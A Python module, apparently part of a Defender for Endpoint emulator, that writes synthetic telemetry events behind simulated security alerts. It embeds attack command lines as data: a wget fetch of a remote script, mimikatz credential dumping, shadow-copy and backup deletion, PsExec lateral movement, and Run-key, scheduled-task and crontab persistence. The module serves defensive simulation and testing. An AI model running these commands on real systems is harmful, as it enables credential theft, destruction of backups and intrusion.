# ruff: noqa: E501  (command lines are data)
"""The events behind each alert: every evidence item of every alert shows up in the tables.

For an alert, the story writes (before the alert fired) the user's sign-in, the process
with exactly the evidence's file, hashes, command line, ids and creation times (and its
parent), the payload file with the evidence's hashes, the connection to the evidence's
address or URL, and what the attack does around them (LSASS access, shadow copy
deletion, mass renames, service installs...). Stories draw from their own generator per
alert and number their reports from the device's first ReportIds, so `alert_event_refs`
can name an alert's events without writing the tables."""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from mdekit.emulator.world.catalog_threats import SCENARIOS, Scenario
from mdekit.emulator.world.events_device import Device, compact_json
from mdekit.emulator.world.events_host import Context, Host
from mdekit.emulator.world.events_procs import (
    MINUTE,
    SECOND,
    SYSTEM,
    Account,
    Image,
    Proc,
)
from mdekit.emulator.world.ids import section_rng, stable_guid
from mdekit.emulator.world.model import WireDict

SCENARIO_BY_DETECTOR = {stable_guid(f"detector|{s.key}"): s for s in SCENARIOS}
PARENT_COMMANDS = {
    "cmd": 'C:\\Windows\\system32\\cmd.exe /c "{script}"',
    "explorer": "C:\\Windows\\Explorer.EXE",
    "services": "C:\\Windows\\system32\\services.exe",
    "powershell": '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    "winword": '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\Q3_report.docm" /o ""',
    "rundll32": "rundll32.exe shell32.dll,OpenAs_RunDLL C:\\Users\\{user}\\AppData\\Local\\Temp\\rcb4.dll",
    "python3": "python3 /opt/app/worker.py --queue default",
}


@dataclass(frozen=True)
class EventRef:
    """Where one event of an alert is: what `POST /api/alerts/createAlertByReference` needs."""

    table: str
    device_id: str
    report_id: int
    timestamp: datetime


_DAYS: dict[str, int] = {}


def wire_us(text: str) -> int:
    """A wire timestamp ("2025-04-24T03:27:37.7214819Z") as microseconds since 1970."""
    day = _DAYS.get(text[:10])
    if day is None:
        day = int(datetime.fromisoformat(text[:10]).replace(tzinfo=UTC).timestamp()) * SECOND
        _DAYS[text[:10]] = day
    clock = (int(text[11:13]) * 3600 + int(text[14:16]) * 60 + int(text[17:19])) * SECOND
    fraction = text[20:-1] if len(text) > 21 else ""
    return day + clock + int((fraction + "0000000")[:7]) // 10


def us_datetime(us: int) -> datetime:
    return datetime.fromtimestamp(us // SECOND, UTC).replace(microsecond=us % SECOND)


def host_address(host: str) -> str:
    """The documentation-range address an example host name resolves to (stable)."""
    digest = hashlib.sha256(host.encode()).digest()
    return f"203.0.113.{20 + digest[0] % 200}"


class Story(Host[None]):
    """Writes one storyline on one device and remembers where its events went."""

    def __init__(self, ctx: Context, dev: Device, rng: random.Random) -> None:
        super().__init__(ctx, dev)
        self.rng = rng
        self.refs: list[tuple[str, int, int]] = []
        """(table, ReportId, µs) of each event written."""

    def _ref(self, table: str, rid: int, at: int) -> None:
        self.refs.append((table, rid, at))

    def system(self, key: str, cmd: str, pid: int | None = None) -> Proc:
        """A long-running system process of the device (one per device for all stories)."""
        cache = self.ctx.stubs
        proc = cache.get((self.dev.id, key))
        if proc is None:
            if self.dev.family == "windows":
                proc = self.stub(key, cmd, self.dev.start - 3600 * SECOND, SYSTEM, pid=pid)
            else:
                proc = self.stub(
                    key,
                    cmd,
                    self.dev.start - 3600 * SECOND,
                    Account(self.dev.short, "root", None),
                    pid=pid,
                )
            cache[(self.dev.id, key)] = proc
        return proc

    def stub(
        self,
        key: str,
        cmd: str,
        created: int,
        account: Account,
        *,
        parent: Proc | None = None,
        pid: int | None = None,
        image: Image | None = None,
    ) -> Proc:
        """A process that ran before the story (not written as an event itself)."""
        user = account.kind in ("user", "admin")
        if self.dev.family != "windows":
            return Proc(
                image or self.image(key, account), pid or self.pid(), created, cmd, account, parent
            )
        return Proc(
            image or self.image(key, account),
            pid or self.pid(),
            created,
            cmd,
            account,
            parent,
            logon_id=999 if not user else 0x3A0000 + int(self.rng.random() * 0xFFFF),
            integrity="Medium" if user else "System",
            elevation="TokenElevationTypeLimited" if user else "TokenElevationTypeDefault",
            session=1 if user else 0,
        )

    def start(
        self,
        parent: Proc,
        key: str,
        cmd: str,
        at: int,
        *,
        account: Account | None = None,
        pid: int | None = None,
        image: Image | None = None,
        integrity: str | None = None,
    ) -> Proc:
        account = account or parent.account
        at = max(at, parent.created + 1_000)
        proc = Proc(
            image or self.image(key, account),
            pid or self.pid(),
            at,
            cmd,
            account,
            parent,
            logon_id=parent.logon_id,
            integrity=integrity or parent.integrity,
            elevation=parent.elevation,
            session=parent.session,
            remote=parent.remote,
        )
        if self.live(at):
            self._ref("DeviceProcessEvents", self.emit.process(self.dev, proc), at)
        return proc

    def file(
        self, at: int, proc: Proc, path: str, action: str = "FileCreated", **fields: Any
    ) -> None:
        at = max(at, proc.created + 1_000)
        if self.live(at):
            self._ref(
                "DeviceFileEvents", self.emit.file(self.dev, at, proc, action, path, **fields), at
            )

    def connect(
        self,
        at: int,
        proc: Proc,
        ip: str,
        port: int | None,
        url: str | None = None,
        action: str = "ConnectionSuccess",
        local_port: int | None = None,
    ) -> None:
        at = max(at, proc.created + 1_000)
        if self.live(at):
            rid = self.emit.network(
                self.dev, at, proc, action, ip, port, url, local_port=local_port
            )
            self._ref("DeviceNetworkEvents", rid, at)

    def event(self, at: int, proc: Proc, action: str, **fields: Any) -> None:
        at = max(at, proc.created + 1_000)
        if self.live(at):
            self._ref("DeviceEvents", self.emit.event(self.dev, at, proc, action, **fields), at)

    def registry(self, at: int, proc: Proc, key: str, name: str, kind: str, data: str) -> None:
        at = max(at, proc.created + 1_000)
        if self.live(at):
            self._ref(
                "DeviceRegistryEvents",
                self.emit.registry(self.dev, at, proc, "RegistryValueSet", key, name, kind, data),
                at,
            )

    def failed_logon(
        self,
        at: int,
        account: Account,
        logon_type: str,
        reason: str,
        remote: tuple[str | None, str | None, int | None],
    ) -> None:
        if self.live(at):
            initiator = self.system("lsass", "C:\\Windows\\system32\\lsass.exe")
            self._ref(
                "DeviceLogonEvents",
                self.emit.logon(
                    self.dev,
                    at,
                    initiator,
                    "LogonFailed",
                    logon_type,
                    account,
                    protocol="NTLM",
                    failure=reason,
                    remote=remote,
                ),
                at,
            )

    def logon(self, at: int, account: Account, logon_type: str, **fields: Any) -> None:
        if not self.live(at):
            return
        if self.dev.family == "windows":
            initiator = self.system("lsass", "C:\\Windows\\system32\\lsass.exe")
        elif self.dev.family == "linux":
            initiator = self.system(
                "sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"
            )
        else:
            initiator = self.system("launchd", "/sbin/launchd", pid=1)
        rid = self.emit.logon(
            self.dev, at, initiator, "LogonSuccess", logon_type, account, **fields
        )
        self._ref("DeviceLogonEvents", rid, at)

    def activities(self) -> list[Any]:
        return []

    def boot(self, at: int) -> None:
        return None


def _item(alert: WireDict, kind: str) -> WireDict | None:
    for item in alert["evidence"]:
        if item["entityType"] == kind:
            return item  # type: ignore[no-any-return]
    return None


def alert_story(
    story: Story, alert: WireDict, scenario: Scenario, users: dict[str, Account]
) -> None:
    """Write the events of one alert on its device."""
    first = wire_us(alert["firstEventTime"])
    user_item = _item(alert, "User")
    logged = alert["loggedOnUsers"][0]["accountName"] if alert["loggedOnUsers"] else None
    user = users.get(user_item["accountName"] if user_item else logged or "")
    rng = story.rng
    if user is not None:
        windows = story.dev.family == "windows"
        if windows:
            logon_type = "RemoteInteractive" if story.dev.is_server else "Interactive"
        else:
            logon_type = "Network" if story.dev.family == "linux" else "Interactive"
        at = max(story.dev.start, first - int((5 + rng.random() * 100) * MINUTE))
        story.logon(
            at,
            user,
            logon_type,
            protocol="Kerberos" if windows else None,
            is_local_admin=user.kind == "admin",
            logon_id=0x3A0000 + int(rng.random() * 0xFFFF) if windows else None,
        )
    account_name = user.name if user is not None else "system"
    proc = _process(story, alert, scenario, user, first)
    actor = proc or _default_actor(story, scenario, user, first)
    _payload(story, alert, scenario, actor, user, first)
    _network(story, alert, scenario, actor, first)
    _extras(story, alert, scenario, actor, user, account_name, first)


def _process(
    story: Story, alert: WireDict, scenario: Scenario, user: Account | None, first: int
) -> Proc | None:
    item = _item(alert, "Process")
    if item is None or scenario.process is None:
        return None
    image_key, parent_key, _ = scenario.process
    account_name = user.name if user is not None else "system"
    runs_as = SYSTEM if parent_key == "services" or user is None else user
    grandparent_key = {
        "cmd": "explorer",
        "powershell": "explorer",
        "winword": "explorer",
        "rundll32": "explorer",
        "python3": "systemd",
    }.get(parent_key, "wininit")
    start = story.dev.start - 2 * 3600 * SECOND
    if grandparent_key == "systemd":
        grandparent = story.stub(
            "systemd", "/sbin/init splash", start, Account(story.dev.short, "root", None), pid=1
        )
    else:
        grandparent = story.stub(
            grandparent_key,
            {"explorer": "C:\\Windows\\Explorer.EXE", "wininit": "wininit.exe"}[grandparent_key],
            start,
            runs_as,
        )
    parent_cmd = PARENT_COMMANDS.get(parent_key, "").format(
        user=account_name, script=f"C:\\Users\\{account_name}\\AppData\\Local\\Temp\\run.cmd"
    )
    parent_created = wire_us(item["parentProcessCreationTime"])
    parent_image = story.images.get(parent_key, account_name)
    parent = story.stub(
        parent_key,
        parent_cmd,
        parent_created,
        runs_as,
        parent=grandparent,
        pid=item["parentProcessId"],
        image=parent_image,
    )
    image = story.images.get(image_key, account_name)
    return story.start(
        parent,
        image_key,
        item["processCommandLine"],
        wire_us(item["processCreationTime"]),
        account=runs_as,
        pid=item["processId"],
        image=image,
    )


def _default_actor(story: Story, scenario: Scenario, user: Account | None, first: int) -> Proc:
    """Who touches the file or the network when the evidence names no process."""
    dev = story.dev
    start = dev.start - 3600 * SECOND
    if dev.family == "linux":
        root = Account(dev.short, "root", None)
        shell = story.stub("bash", "/bin/bash", start, root)
        return story.start(
            shell, "wget", "wget -q -O- http://198.51.100.23/x.sh", first - 20 * SECOND
        )
    if dev.family == "macos":
        account = user or Account(dev.short, "root", None)
        return story.stub(
            "safari", "/Applications/Safari.app/Contents/MacOS/Safari", start, account
        )
    account = user or SYSTEM
    if scenario.key == "meterpreter":
        explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", start, account)
        return story.start(
            explorer,
            "javaw",
            f'"C:\\Program Files\\Java\\jre-1.8\\bin\\javaw.exe" -jar C:\\Users\\{account.name}\\AppData\\Local\\Temp\\update.jar',
            first,
        )
    if scenario.network == "c2":
        return story.stub("svchost", "svchost.exe -k netsvcs -p -s BITS", start, SYSTEM)
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", start, account)
    browser = "chrome" if int(dev.id[:6], 16) % 100 < 55 else "msedge"
    return story.stub(
        browser,
        f'"{story.images.get(browser).path}" ',
        first - 10 * MINUTE,
        account,
        parent=explorer,
    )


def _payload(
    story: Story, alert: WireDict, scenario: Scenario, actor: Proc, user: Account | None, first: int
) -> None:
    item = _item(alert, "File")
    if item is None:
        return
    separator = "\\" if item["filePath"][:2].endswith(":") or "\\" in item["filePath"] else "/"
    path = f"{item['filePath']}{separator}{item['fileName']}"
    size = story.images.get(scenario.payload or "eicar").size if scenario.payload else None
    hashes = (
        item["sha1"],
        item["sha256"],
        story.images.get(scenario.payload).md5 if scenario.payload else None,
    )
    origin = (
        f"https://{scenario.key.replace('_', '-')}.example.com/{item['fileName']}"
        if "Downloads" in path
        else None
    )
    writer = (
        actor.parent
        if actor.parent is not None and actor.image.name.lower() == item["fileName"].lower()
        else actor
    )
    story.file(
        first - int((20 + story.rng.random() * 120) * SECOND),
        writer,
        path,
        hashes=hashes,
        size=size,
        origin_url=origin,
    )
    if scenario.detection_source == "WindowsDefenderAv" or item["detectionStatus"] in (
        "Prevented",
        "Blocked",
    ):
        engine = (
            story.system(
                "msmpeng",
                '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
            )
            if story.dev.family == "windows"
            else actor
        )
        story.event(
            first + 2 * SECOND,
            engine,
            "AntivirusDetection",
            FileName=item["fileName"],
            FolderPath=path,
            SHA1=item["sha1"],
            SHA256=item["sha256"],
            FileSize=size,
            AdditionalFields=compact_json(
                {
                    "ThreatName": alert["threatName"] or scenario.threat_name or alert["title"],
                    "WasRemediated": item["detectionStatus"] in ("Prevented", "Blocked"),
                    "WasExecutingWhileDetected": False,
                    "ReportSource": "Realtime",
                }
            ),
        )


def _network(story: Story, alert: WireDict, scenario: Scenario, actor: Proc, first: int) -> None:
    ip = _item(alert, "Ip")
    url = _item(alert, "Url")
    at = first + int((1 + story.rng.random() * 20) * SECOND)
    if url is not None:
        host = url["url"].split("/")[2]
        story.connect(at, actor, host_address(host), 443, host)
    if ip is not None:
        if scenario.network == "peer":
            system = story.system("ntoskrnl", "", pid=4)
            story.connect(
                at - MINUTE,
                system,
                ip["ipAddress"],
                49_152 + int(story.rng.random() * 16_000),
                action="InboundConnectionAccepted",
                local_port=445,
            )
        else:
            port = (
                4444
                if scenario.key == "linux_revshell"
                else 8080
                if scenario.key == "meterpreter"
                else 443
            )
            story.connect(at, actor, ip["ipAddress"], port)


def _extras(
    story: Story,
    alert: WireDict,
    scenario: Scenario,
    actor: Proc,
    user: Account | None,
    account_name: str,
    first: int,
) -> None:
    key = scenario.key
    rng = story.rng
    at = first + 5 * SECOND
    windows = story.dev.family == "windows"
    if key in ("mimikatz", "lsass_access") and windows:
        lsass = story.system("lsass", "C:\\Windows\\system32\\lsass.exe")
        tool = actor
        if key == "mimikatz":
            tool = story.start(
                actor,
                "mimikatz",
                f"C:\\Users\\{account_name}\\AppData\\Local\\Temp\\mimikatz.exe  privilege::debug sekurlsa::logonpasswords exit",
                at,
            )
            for library in ("samlib", "vaultcli", "cryptdll"):
                if story.live(at):
                    story.emit.image_load(story.dev, at + SECOND, tool, story.images.get(library))
            story.event(
                at + SECOND,
                tool,
                "ProcessPrimaryTokenModified",
                AdditionalFields=compact_json(
                    {
                        "OriginalTokenPrivEnabled": 8_388_608,
                        "CurrentTokenPrivEnabled": 8_388_608 | (1 << 20),
                        "TokenModificationProperties": "tokenChangeDescription",
                    }
                ),
            )
        else:
            for library in ("comsvcs", "dbgcore"):
                if story.live(at):
                    story.emit.image_load(story.dev, at, tool, story.images.get(library))
            story.file(
                at + 3 * SECOND,
                tool,
                f"C:\\Users\\{account_name}\\AppData\\Local\\Temp\\lsass.dmp",
                size=48_000_000 + int(rng.random() * 20_000_000),
            )
        story.event(
            at + 2 * SECOND,
            tool,
            "OpenProcessApiCall",
            **story.emit.target_fields(lsass),
            AdditionalFields=compact_json(
                {"DesiredAccess": 0x1FFFFF if key == "lsass_access" else 0x1010}
            ),
        )
    elif key in ("ransom_behavior", "backups_deleted") and windows:
        shell = (
            actor
            if actor.image.key == "cmd"
            else story.start(actor, "cmd", "cmd.exe /c vssadmin delete shadows /all /quiet", at)
        )
        for index, (binary, cmd) in enumerate(
            (
                ("wmic", "wmic.exe shadowcopy delete"),
                ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No"),
                ("bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
                ("wbadmin", "wbadmin delete catalog -quiet"),
            )
        ):
            story.start(shell, binary, cmd, at + (index + 1) * SECOND)
        if key == "ransom_behavior":
            _mass_rename(story, actor, account_name, at + 30 * SECOND)
            story.event(
                at + 31 * SECOND,
                actor,
                "AsrRansomwareAudited",
                FileName="Budget 2025.xlsx",
                FolderPath=f"C:\\Users\\{account_name}\\Documents\\Budget 2025.xlsx",
                AdditionalFields=compact_json({"IsAudit": True}),
            )
    elif key == "psexec" and windows:
        system = story.system("ntoskrnl", "", pid=4)
        ip = _item(alert, "Ip")
        peer = story.ctx.by_ip.get(ip["ipAddress"]) if ip is not None else None
        admin = user or SYSTEM
        story.file(
            first - 3 * SECOND,
            system,
            "C:\\Windows\\PSEXESVC.exe",
            hashes=(actor.image.sha1, actor.image.sha256, actor.image.md5),
            size=actor.image.size,
            request=(
                "SMB",
                peer.local_ip if peer else None,
                admin.name,
                admin.domain or "",
                "ADMIN$",
            ),
        )
        story.event(
            first - 2 * SECOND,
            actor.parent or system,
            "ServiceInstalled",
            AdditionalFields=compact_json(
                {
                    "ServiceName": "PSEXESVC",
                    "ServiceAccount": "LocalSystem",
                    "ServiceStartType": "3",
                    "ServiceType": "16",
                }
            ),
        )
        story.start(actor, "cmd", 'cmd.exe /c "net localgroup administrators & whoami /all"', at)
        if peer is not None and user is not None:
            story.logon(
                first - 4 * SECOND,
                user,
                "Network",
                protocol="NTLM",
                is_local_admin=True,
                logon_id=0x3B0000 + int(rng.random() * 0xFFFF),
                remote=(peer.short.upper(), peer.local_ip, 0),
            )
            _psexec_source(story, peer, user, first - 10 * SECOND)
            story.ctx.notes.append(("lateral", story.dev, first - 3 * SECOND, user))
    elif key == "asep_registry" and windows and user is not None:
        story.registry(
            at,
            actor,
            f"HKEY_CURRENT_USER\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "OneDriveSync",
            "String",
            f"rundll32.exe C:\\Users\\{account_name}\\AppData\\Roaming\\ntuser_cache.dll,Start",
        )
    elif key == "sched_task" and windows:
        url = actor.cmd.split("mshta.exe ", 1)[-1].split('"')[0]
        content = {
            "Actions": {"Exec": {"Command": "mshta.exe", "Arguments": url}},
            "Triggers": {"TimeTrigger": {"Repetition": {"Interval": "PT30M"}}},
            "Principals": {"Principal": {"UserId": account_name}},
        }
        schedule = story.system("svchost", "svchost.exe -k netsvcs -p -s Schedule")
        story.event(
            at,
            schedule,
            "ScheduledTaskCreated",
            AdditionalFields=compact_json(
                {"TaskName": "\\UpdateCheck", "TaskContent": compact_json(content)}
            ),
        )
        if user is not None:
            mshta = story.start(
                schedule, "mshta", f"mshta.exe {url}", at + 30 * MINUTE, account=user
            )
            host = url.split("/")[2]
            story.connect(at + 30 * MINUTE + SECOND, mshta, host_address(host), 443, host)
    elif key == "recon" and windows:
        for index, (binary, cmd) in enumerate(
            (
                ("whoami", "whoami  /all"),
                ("net", 'net  group "Domain Admins" /domain'),
                ("nltest", "nltest  /domain_trusts"),
            )
        ):
            child = story.start(actor, binary, cmd, at + index * SECOND)
            if binary == "net":
                story.start(
                    child,
                    "net1",
                    'C:\\Windows\\system32\\net1  group "Domain Admins" /domain',
                    at + index * SECOND + SECOND // 10,
                )
    elif key == "office_child" and windows and actor.parent is not None:
        if story.live(first):
            story.emit.image_load(
                story.dev, first - 2 * SECOND, actor.parent, story.images.get("vbe7")
            )
        story.event(
            first,
            actor.parent,
            "AsrOfficeChildProcessAudited",
            FileName="powershell.exe",
            FolderPath=actor.image.path,
            ProcessCommandLine=actor.cmd,
            AdditionalFields=compact_json({"IsAudit": True}),
        )
    elif key == "signed_binary" and windows:
        dll = story.images.get("emotet", account_name)
        if story.live(at):
            story.emit.image_load(story.dev, at, actor, dll)
    elif key == "ps_encoded" and windows:
        for library in ("amsi", "sma"):
            if story.live(at):
                story.emit.image_load(story.dev, at, actor, story.images.get(library))
        story.event(
            at + SECOND,
            actor,
            "PowerShellCommand",
            AdditionalFields=compact_json({"Command": "New-Object"}),
        )
        story.event(
            at + 2 * SECOND,
            actor,
            "AmsiScriptDetection",
            AdditionalFields=compact_json(
                {"Description": "Detected a suspicious downloader script (Net.WebClient, IEX)"}
            ),
        )
    elif key == "linux_revshell":
        story.start(actor, "id", "id", at + 3 * SECOND)
        story.start(actor, "uname", "uname -a", at + 4 * SECOND)
    elif key == "linux_miner":
        root = Account(story.dev.short, "root", None)
        crontab = story.start(actor, "crontab", "crontab /tmp/.c", at, account=root)
        story.file(
            at + SECOND, crontab, "/var/spool/cron/crontabs/root", action="FileModified", size=120
        )


def _mass_rename(story: Story, actor: Proc, account_name: str, at: int) -> None:
    """LockBit-style encryption: documents renamed with a random extension, notes dropped."""
    rng = story.rng
    extension = "".join(
        rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
        for _ in range(9)
    )
    locker = (
        story.start(actor, "lockbit", actor.cmd.split("/c ", 1)[-1], at)
        if actor.image.key != "lockbit"
        else actor
    )
    names = (
        "Budget 2025.xlsx",
        "Contract.docx",
        "Payroll.xlsx",
        "Roadmap.pptx",
        "Minutes.docx",
        "Invoice.pdf",
        "Photo.jpg",
        "Notes.txt",
        "Report.docx",
        "Forecast.xlsx",
        "Plan.docx",
        "Slides.pptx",
        "Scan.pdf",
        "Offer.docx",
    )
    for index, name in enumerate(names):
        old = f"C:\\Users\\{account_name}\\Documents\\{name}"
        story.file(
            at + index * SECOND // 4,
            locker,
            f"{old}.{extension}",
            action="FileRenamed",
            previous_path=old,
        )
    for folder in ("Documents", "Desktop"):
        story.file(
            at + 5 * SECOND,
            locker,
            f"C:\\Users\\{account_name}\\{folder}\\{extension}.README.txt",
            size=7_219,
        )


def _psexec_source(story: Story, peer: Device, user: Account, at: int) -> None:
    """The attacker's side on the device the evidence's address belongs to."""
    if not peer.start <= at <= peer.end:
        return
    explorer = Proc(
        story.images.get("explorer"),
        4 * (1000 + int(story.rng.random() * 3000)),
        at - 3600 * SECOND,
        "C:\\Windows\\Explorer.EXE",
        user,
        None,
        logon_id=0x3C0000,
        integrity="Medium",
        elevation="TokenElevationTypeLimited",
        session=1,
    )
    shell = Proc(
        story.images.get("cmd"),
        story.pid(),
        at - 60 * SECOND,
        '"C:\\Windows\\system32\\cmd.exe" ',
        user,
        explorer,
        logon_id=0x3C0000,
        integrity="High",
        elevation="TokenElevationTypeFull",
        session=1,
    )
    tool = Proc(
        story.images.get("psexec"),
        story.pid(),
        at,
        f"PsExec.exe \\\\{story.dev.short} -accepteula -s cmd.exe",
        user,
        shell,
        logon_id=0x3C0000,
        integrity="High",
        elevation="TokenElevationTypeFull",
        session=1,
    )
    story.emit.process(peer, tool)
    story.emit.network(peer, at + SECOND, tool, "ConnectionSuccess", story.dev.local_ip, 445, None)


def story_rng(seed: int | str, tenant_id: str, alert_id: str) -> random.Random:
    return section_rng(seed, tenant_id, f"events|alert|{alert_id}")
